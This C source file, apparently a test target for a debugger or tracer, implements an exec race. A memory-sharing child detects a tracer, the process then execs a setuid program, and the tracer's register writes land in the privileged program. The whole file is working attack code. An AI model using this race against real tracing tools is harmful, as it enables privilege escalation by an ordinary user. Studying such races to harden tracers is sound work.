/*
 * An attack on whoever traces it, run by an ordinary user. A child that shares its memory watches for a tracer; when one comes, the process
 * executes a setuid program, while the child keeps the old memory alive for whoever still writes there. What the tracer then does
 * to registers is done to the privileged program.
 *
 * exec-race PROGRAM WHO DELAY: WHO is "first" or "other", the thread that executes PROGRAM; DELAY is in microseconds. After a second and a half
 * without a tracer it executes it anyway.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

int calls;
const char *label = "ten chars.";
static volatile int is_traced;
static char *program, *who;
static long delay_micros;
static pid_t parent;

void wait_at_gate(void) {}
int one(int wait) {
  if (wait) wait_at_gate();
  calls++;
  return 1;
}
int two(void) {
  calls++;
  return (int)strlen(label) / 5;
}

static long micros(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

static int watch(void *unused) {
  (void)unused;
  char path[64], text[2048];
  snprintf(path, sizeof path, "/proc/%d/status", (int)parent);
  int file = open(path, O_RDONLY);
  for (long end = micros() + 1500000; micros() < end && !is_traced;) {
    ssize_t size = pread(file, text, sizeof text - 1, 0);
    text[size > 0 ? size : 0] = 0;
    char *tracer = strstr(text, "TracerPid:\t");
    if (tracer && tracer[11] != '0') break;
  }
  for (long end = micros() + delay_micros; micros() < end;) {}
  is_traced = 1;
  /* the old memory lives on for as long as this does */
  usleep(400000);
  _exit(0);
}

/* Memory wherever the privileged program's stack may come to lie: what is meant for that stack is then written here without an error. */
static void cover_stacks(void) {
  enum { step = 64 << 20 };
  int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE;
  for (unsigned long at = 0x7ffc00000000; at < 0x7ffffc000000; at += step)
    mmap((void *)at, step, PROT_READ | PROT_WRITE, flags, -1, 0);
}

static void become_privileged(void) {
  while (!is_traced) sched_yield();
  execl(program, program, (char *)NULL);
  _exit(1);
}

static void *in_thread(void *unused) {
  become_privileged();
  return unused;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  program = argv[1], who = argv[2], delay_micros = atol(argv[3]);
  parent = getpid();
  dprintf(1, "ready %d\n", (int)parent);
  cover_stacks();
  char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (clone(watch, stack + 65536, CLONE_VM | SIGCHLD, NULL) < 0) return 3;
  pthread_t thread;
  if (strcmp(who, "other") == 0) {
    pthread_create(&thread, NULL, in_thread, NULL);
    for (;;) usleep(100);
  }
  become_privileged();
}
